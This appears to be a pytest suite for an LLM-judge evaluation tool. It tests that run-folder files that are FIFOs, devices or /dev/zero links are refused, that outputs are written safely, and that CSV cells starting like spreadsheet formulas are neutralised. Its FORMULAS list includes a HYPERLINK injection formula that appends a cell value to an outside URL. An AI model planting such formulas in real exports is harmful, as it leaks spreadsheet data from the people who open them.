"""The run folder is input too: every file mitigate keeps there is checked like a user's file.

Files mitigate reads back (journals, their locks, caches, batch logs, replay files) must be regular
files (a symlink to one is followed): a FIFO, a socket or a device is refused by what it is
before any work, and no line is read past a bound. Outputs (``results.json``, reports, plots,
``--out``, probe records) go through the one writer, :func:`mitigate.paths.write_output`: a
symlink is followed and stays a link, a character device is written through. A journal line
whose score is off the judge's scale is damaged: its item is judged again, with a warning. A
failure writing outputs after the run exits 1 (the work was done), saying where the judgments
are kept. CSV cells that start like a spreadsheet formula are neutralised, and read back unchanged.
"""

from __future__ import annotations

import ast
import asyncio
import csv
import json
import os
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mitigate import Item, JudgePrompt, PromptJudge
from mitigate.cli import EXIT_FAILED, EXIT_REFUSED, app
from mitigate.data import RecordedRow, csv_cell, load_recorded_runs, runs_from_rows, save_recorded
from mitigate.data._csv_cells import FORMULA_START, csv_value
from mitigate.errors import ConfigError, DataError, JournalDamageWarning
from mitigate.judge import Judgment
from mitigate.lm import LM, Choice, LMRequest, LMResponse
from mitigate.lm._replay import ReplayRecorder
from mitigate.paths import open_regular, write_output
from mitigate.report import write_judgments
from mitigate.run import Journal, RunLock, run
from mitigate.testing import StubOpenAIServer
from tests.support.bad_inputs import make_fixtures

REPO = Path(__file__).resolve().parents[2]
MITIGATE = Path(__file__).resolve().parents[2] / "mitigate"
needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")


class FixedLM(LM):
    """Answers "Score: 3" and counts its calls."""

    provider = "fixed"

    def __init__(self) -> None:
        self.calls = 0

    async def complete(self, request: LMRequest) -> LMResponse:
        self.calls += 1
        return LMResponse(choices=(Choice(text="Score: 3"),))


def _judge(lm: LM) -> PromptJudge:
    return PromptJudge(JudgePrompt.from_template("Rate the text from 1 to 5.\nText: {{output}}\nScore:"), lm)


def _items(n: int) -> list[Item]:
    return [Item(id=f"it{i}", output=f"t{i}") for i in range(n)]


@pytest.fixture(scope="module")
def fixtures(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_fixtures(tmp_path_factory.mktemp("run-folder"))


@pytest.fixture(scope="module")
def server():
    with StubOpenAIServer(latency=0.0, reply="Score: 3") as stub:
        yield stub


@pytest.fixture(autouse=True)
def _env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    monkeypatch.setenv("MITIGATE_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.delenv("MITIGATE_DEBUG", raising=False)


def _judge_cli(fixtures: Path, url: str, *extra: str, command: str = "judge") -> list[str]:
    return [
        command,
        "-b",
        f"jsonl:{fixtures}/bench.jsonl",
        "-c",
        "fluency",
        "--prompt",
        f"{fixtures}/prompt.txt",
        "--backend",
        "openai:stub-model",
        "--base-url",
        url,
        "--no-progress",
        "-n",
        "3",
        *extra,
    ]


# --------------------------------------------------------------------------- files mitigate reads back

_RUN_IN_CHILD = textwrap.dedent("""
    import resource, sys
    resource.setrlimit(resource.RLIMIT_AS, (2 * 2**30, 2 * 2**30))  # old code filled the memory here
    sys.argv = ["mitigate", *sys.argv[1:]]
    from mitigate.cli import main
    main()
""")


def _child(args: list[str], tmp_path: Path) -> subprocess.CompletedProcess[str]:
    """The CLI in its own process (bounded memory and time: a hang or a memory bomb fails, never stalls the
    suite)."""
    env = {**os.environ, "PYTHONPATH": str(REPO), "MITIGATE_CACHE_DIR": str(tmp_path / "cache")}
    return subprocess.run(
        [sys.executable, "-c", _RUN_IN_CHILD, *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
    )


@needs_fifo
def test_a_fifo_journal_is_refused_by_what_it_is_before_any_request(fixtures, server, tmp_path) -> None:
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    os.mkfifo(run_dir / "journal.jsonl")
    before = server.request_count
    proc = _child(_judge_cli(fixtures, server.base_url, "--run-dir", str(run_dir)), tmp_path)
    assert proc.returncode == EXIT_REFUSED, proc.stderr
    assert proc.stderr.splitlines() == [
        f"error: expected {run_dir}/journal.jsonl to be a regular file "
        "mitigate reads back; it is a FIFO (named pipe) (remove it, or use "
        "another folder)"
    ]
    assert server.request_count == before
    assert stat.S_ISFIFO(os.lstat(run_dir / "journal.jsonl").st_mode)  # left as it was


def test_a_journal_linked_to_dev_zero_is_refused_without_reading_it(fixtures, server, tmp_path) -> None:
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    (run_dir / "journal.jsonl").symlink_to("/dev/zero")
    proc = _child(_judge_cli(fixtures, server.base_url, "--run-dir", str(run_dir)), tmp_path)
    assert proc.returncode == EXIT_REFUSED, proc.stderr[-500:]
    assert len(proc.stderr.splitlines()) == 1 and "is a character device" in proc.stderr


@needs_fifo
@pytest.mark.parametrize("name", ["journal.jsonl.lock", "batches/batches.jsonl", "journals/x.jsonl"])
def test_any_file_mitigate_reads_back_in_a_run_folder_is_checked_before_the_run(
    name, fixtures, server, tmp_path
) -> None:
    run_dir = tmp_path / "run"
    (run_dir / name).parent.mkdir(parents=True)
    os.mkfifo(run_dir / name)
    result = CliRunner().invoke(app, _judge_cli(fixtures, server.base_url, "--run-dir", str(run_dir)))
    assert result.exit_code == EXIT_REFUSED and "is a FIFO" in result.stderr, result.output


@needs_fifo
def test_a_likelihood_cache_that_is_a_fifo_stops_compare_before_any_request(
    fixtures, server, tmp_path
) -> None:
    out = tmp_path / "cmp"
    out.mkdir()
    os.mkfifo(out / "likelihood.jsonl")
    before = server.request_count
    result = CliRunner().invoke(
        app, _judge_cli(fixtures, server.base_url, "-p", "baseline", "--out", str(out), command="compare")
    )
    assert result.exit_code == EXIT_REFUSED and "likelihood.jsonl to be a regular file" in result.stderr
    assert server.request_count == before


@needs_fifo
def test_the_lock_the_journal_and_a_replay_file_refuse_a_fifo_or_device_on_their_own(tmp_path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(ConfigError, match="lock file .* is a FIFO"):
        RunLock(fifo).acquire()
    with pytest.raises(ConfigError, match="journal .* is a FIFO"):
        Journal(fifo, "fp")
    link = tmp_path / "zero.jsonl"
    link.symlink_to("/dev/zero")
    with pytest.raises(ConfigError, match="is a character device"):
        Journal(link, "fp")
    with pytest.raises(ConfigError, match="replay file .* is a FIFO"):
        ReplayRecorder(FixedLM(), fifo)
    for target in (fifo, link, "/dev/null"):
        with pytest.raises(ConfigError, match="to be a regular file"):
            open_regular(target, "a", "the cache")


def test_a_journal_line_longer_than_the_bound_is_refused_without_reading_it_whole(
    tmp_path, monkeypatch
) -> None:
    import mitigate.paths

    journal = tmp_path / "journal.jsonl"
    asyncio.run(run(_judge(FixedLM()), _items(1), journal=journal, progress=False))
    # a sparse tail of zeros without a line break: 64 MiB on paper, none on disk
    with journal.open("r+b") as fh:
        fh.truncate(journal.stat().st_size + 64 * 2**20)
    monkeypatch.setattr(mitigate.paths, "MAX_LINE_BYTES", 2**20)
    with pytest.raises(DataError, match=r"lines of at most 1,048,576 bytes.*line 3 is longer"):
        Journal(journal, _judge(FixedLM()).fingerprint())


# --------------------------------------------------------------------------- a damaged journal line


def _edit_line(journal: Path, item_id: str, score: float) -> None:
    lines = journal.read_text(encoding="utf-8").splitlines()
    for k, line in enumerate(lines[1:], start=1):
        row = json.loads(line)
        if row["item_id"] == item_id:
            row["scores"], row["samples"] = {"score": score}, {"score": [score]}
            lines[k] = json.dumps(row)
    journal.write_text("\n".join(lines) + "\n", encoding="utf-8")


@pytest.mark.parametrize("score", [9.0, 0.0, float("nan"), float("inf")])
def test_a_journal_score_off_the_scale_is_a_damaged_line_and_its_item_is_judged_again(
    score, tmp_path
) -> None:
    journal = tmp_path / "journal.jsonl"
    asyncio.run(run(_judge(FixedLM()), _items(3), journal=journal, progress=False))
    _edit_line(journal, "it1", score)
    lm = FixedLM()
    with pytest.warns(
        JournalDamageWarning,
        match=r"1 judgment line\(s\) hold a score that is not on the judge's "
        r"scale \(line 3: 'score' is",
    ):
        result = asyncio.run(run(_judge(lm), _items(3), journal=journal, progress=False))
    assert lm.calls == 1  # it1 alone, judged again
    assert [j.scores["score"] for j in result.judgments] == [3.0, 3.0, 3.0]
    lm = FixedLM()
    asyncio.run(run(_judge(lm), _items(3), journal=journal, progress=False))  # the later good line wins now
    assert lm.calls == 0


def test_a_judge_reports_the_bounds_of_its_scores() -> None:
    from mitigate.report import with_first_prompt
    from mitigate.strategies import parse_pipeline

    judge = _judge(FixedLM())
    assert judge.score_bounds() == {"score": (1.0, 5.0)}
    assert with_first_prompt(parse_pipeline("granularity(scale=1-10)").wrap(judge)).score_bounds() == {
        "score": (1.0, 10.0)
    }
    assert parse_pipeline("sampling(n=3, temperature=0.7)").wrap(judge).score_bounds() == {
        "score": (1.0, 5.0)
    }


# --------------------------------------------------------------------------- outputs


def test_results_json_linked_elsewhere_is_written_through_the_link(fixtures, server, tmp_path) -> None:
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    real = tmp_path / "kept" / "results.json"
    real.parent.mkdir()
    real.write_text("old", encoding="utf-8")
    (run_dir / "results.json").symlink_to(real)
    result = CliRunner().invoke(app, _judge_cli(fixtures, server.base_url, "--run-dir", str(run_dir)))
    assert result.exit_code == 0, result.output
    assert (run_dir / "results.json").is_symlink()
    assert json.loads(real.read_text(encoding="utf-8"))["summary"]["items"] == 3


def _device_node(path: Path) -> Path:
    """A character device node at ``path`` (the null device): mknod where allowed, else a link to
    /dev/null."""
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except (PermissionError, AttributeError, OSError):
        path.symlink_to("/dev/null")
    return path


def test_results_json_and_probe_out_that_are_devices_are_written_through_never_replaced(
    fixtures, server, tmp_path
) -> None:
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    node = _device_node(run_dir / "results.json")
    result = CliRunner().invoke(app, _judge_cli(fixtures, server.base_url, "--run-dir", str(run_dir)))
    assert result.exit_code == 0, result.output
    assert stat.S_ISCHR(os.stat(node).st_mode)
    out = _device_node(tmp_path / "probe.json")
    real = tmp_path / "probe-real.json"
    (tmp_path / "probe-link.json").symlink_to(real)
    for target in (out, tmp_path / "probe-link.json"):
        result = CliRunner().invoke(
            app,
            _judge_cli(
                fixtures, server.base_url, "--probes", "verbosity", "--out", str(target), command="probe"
            ),
        )
        assert result.exit_code == 0, result.output
    assert stat.S_ISCHR(os.stat(out).st_mode)
    assert (tmp_path / "probe-link.json").is_symlink()
    assert json.loads(real.read_text(encoding="utf-8"))["rows"]


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full here")
def test_a_full_disk_after_the_run_exits_1_saying_where_the_judgments_are_kept(
    fixtures, server, tmp_path
) -> None:
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    (run_dir / "results.json").symlink_to("/dev/full")
    result = CliRunner().invoke(app, _judge_cli(fixtures, server.base_url, "--run-dir", str(run_dir)))
    errors = [ln for ln in result.stderr.splitlines() if ln.startswith("error:")]
    assert result.exit_code == EXIT_FAILED, result.output
    assert errors == [
        f"error: expected to write the results file {run_dir}/results.json; got No space left "
        "on device; the run finished and the judgments are kept in the journal "
        f"{run_dir}/journal.jsonl: fix that "
        "(free the space, change the path) and rerun the same command to write the files "
        "without new LM calls"
    ]
    result = CliRunner().invoke(
        app, _judge_cli(fixtures, server.base_url, "--out", "/dev/full", "--no-cache")
    )
    assert result.exit_code == EXIT_FAILED and "the judgments were kept nowhere" in result.stderr
    out = tmp_path / "cmp"
    out.mkdir()
    (out / "report.md").symlink_to("/dev/full")
    result = CliRunner().invoke(
        app, _judge_cli(fixtures, server.base_url, "-p", "baseline", "--out", str(out), command="compare")
    )
    assert result.exit_code == EXIT_FAILED and f"kept in the journals in {out}/journals" in result.stderr


def test_a_plot_is_written_as_outputs_are(tmp_path) -> None:
    pytest.importorskip("matplotlib")
    from mitigate.report._plots import _plt, save_figure

    real = tmp_path / "real.png"
    link = tmp_path / "plot.png"
    link.symlink_to(real)
    plt = _plt()
    save_figure(plt.figure(), link)
    assert link.is_symlink() and real.read_bytes().startswith(b"\x89PNG")


def _writes_a_file(call: ast.Call) -> bool:
    """Whether a call opens a file for writing, renames over one, or saves a figure to a path."""
    func = call.func
    name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
    if name == "open":
        modes = [a.value for a in call.args if isinstance(a, ast.Constant) and isinstance(a.value, str)]
        modes += [
            k.value.value for k in call.keywords if k.arg == "mode" and isinstance(k.value, ast.Constant)
        ]
        return any(len(m) <= 3 and set(m) & set("wax+") for m in modes)
    if name in ("replace", "rename"):
        return isinstance(func, ast.Attribute) and getattr(func.value, "id", "") == "os"
    if name == "savefig":  # into a buffer (format given) is fine: the buffer goes through write_output
        return not any(k.arg == "format" for k in call.keywords)
    return name in ("write_text", "write_bytes", "mkstemp")


def test_write_output_is_the_only_writer_of_output_files() -> None:
    """No module but mitigate/paths.py writes a file in place, renames over one, or saves a figure to a path
    (appending to a log mitigate keeps goes through open_regular, which is not an output)."""
    found = [
        f"{path.relative_to(MITIGATE)}:{node.lineno}"
        for path in sorted(MITIGATE.rglob("*.py"))
        if path.relative_to(MITIGATE).as_posix() not in ("paths.py", "tests/support/bad_inputs.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and _writes_a_file(node)
    ]
    assert found == []


# --------------------------------------------------------------------------- CSV cells

FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1, "details")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "'=already",
    "''twice",
    "'plain",
    "'",
    "plain",
    "",
    "-",
    "a=b",
]


def test_csv_out_neutralises_cells_that_start_like_a_formula(tmp_path) -> None:
    judgments = [Judgment(item_id=text or "empty", scores={"q": -1.0}, raw=(text,)) for text in FORMULAS]
    path = write_judgments(judgments, tmp_path / "rows.csv", criterion="q")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row, text in zip(rows, FORMULAS, strict=True):
        assert not row["item_id"].startswith(FORMULA_START)
        assert json.loads(row["raw"]) == [text]  # JSON text starts with "[": never a formula
        assert row["score"] == "-1.0"  # a number stays a number
    assert rows[0]["item_id"] == "'" + FORMULAS[0]


def test_recorded_csv_written_by_mitigate_reads_back_every_text_unchanged(tmp_path) -> None:
    rows = [
        RecordedRow(item_id=f"x{k}", judge="j", criterion="q", score=3.0, raw=text)
        for k, text in enumerate(FORMULAS)
    ]
    path = save_recorded(runs_from_rows(rows, "memory")["j"], tmp_path / "rec.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not any(cell.startswith(FORMULA_START) for cell in cells)
    assert "'" + FORMULAS[0] in cells
    back = load_recorded_runs(path)["j"].rows()
    assert [r.raw for r in back] == [r.raw for r in rows]


def test_csv_cells_round_trip_and_never_start_like_a_formula() -> None:
    hypothesis = pytest.importorskip("hypothesis")
    from hypothesis import given
    from hypothesis import strategies as st

    @given(
        st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", "1"]), max_size=6)
    )
    @hypothesis.settings(max_examples=300, deadline=None)
    def check(text: str) -> None:
        cell = csv_cell(text)
        assert not cell.startswith(FORMULA_START)
        assert csv_value(cell) == text

    check()
    assert csv_cell(-3.5) == -3.5 and csv_cell(None) is None


def test_write_output_writes_bytes_and_text_atomically(tmp_path) -> None:
    write_output(tmp_path / "a.bin", b"\x00\x01")
    write_output(tmp_path / "b.txt", lambda fh: fh.write("x\n"))
    assert (tmp_path / "a.bin").read_bytes() == b"\x00\x01" and (tmp_path / "b.txt").read_text() == "x\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.bin", "b.txt"]
    with pytest.raises(ZeroDivisionError):
        write_output(tmp_path / "b.txt", lambda fh: 1 / 0)
    assert (tmp_path / "b.txt").read_text() == "x\n" and sorted(p.name for p in tmp_path.iterdir()) == [
        "a.bin",
        "b.txt",
    ]


@needs_fifo
def test_an_lm_cache_file_that_is_a_fifo_or_device_is_refused_by_what_it_is(tmp_path) -> None:
    from mitigate.lm import LMCache

    (tmp_path / "a").mkdir()
    os.mkfifo(tmp_path / "a" / "lm_cache.sqlite")
    with pytest.raises(ConfigError, match="LM cache file .* is a FIFO"):
        LMCache(tmp_path / "a")
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "lm_cache.sqlite").symlink_to("/dev/zero")
    with pytest.raises(ConfigError, match="LM cache file .* is a character device"):
        LMCache(tmp_path / "b")


def test_a_rerun_after_rewriting_the_outputs_under_the_same_ids_judges_them_again(server, tmp_path) -> None:
    bench, run_dir = tmp_path / "bench.jsonl", tmp_path / "run"
    rows = [{"id": f"x{i}", "output": f"Summary {i}.", "inputs": {"source": "A."}} for i in range(30)]
    bench.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    prompt = tmp_path / "prompt.txt"
    prompt.write_text("Rate the fluency 1 to 5.\nArticle: {{source}}\nSummary: {{summary}}\nScore:")
    args = ["judge", "-b", f"jsonl:{bench}", "-c", "fluency", "--prompt", str(prompt), "--no-cache"]
    args += ["--backend", "openai:stub-model", "--base-url", server.base_url, "--no-progress"]
    args += ["--run-dir", str(run_dir), "-n", "0"]
    assert CliRunner().invoke(app, args).exit_code == 0
    for r in rows:
        r["output"] = f"A rewritten summary {r['id']}."
    bench.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    before = server.request_count
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0 and server.request_count - before == 30
    assert "30 judged now, 30 of them again as their texts changed" in result.output
    before = server.request_count
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0 and server.request_count == before and "30 resumed" in result.output
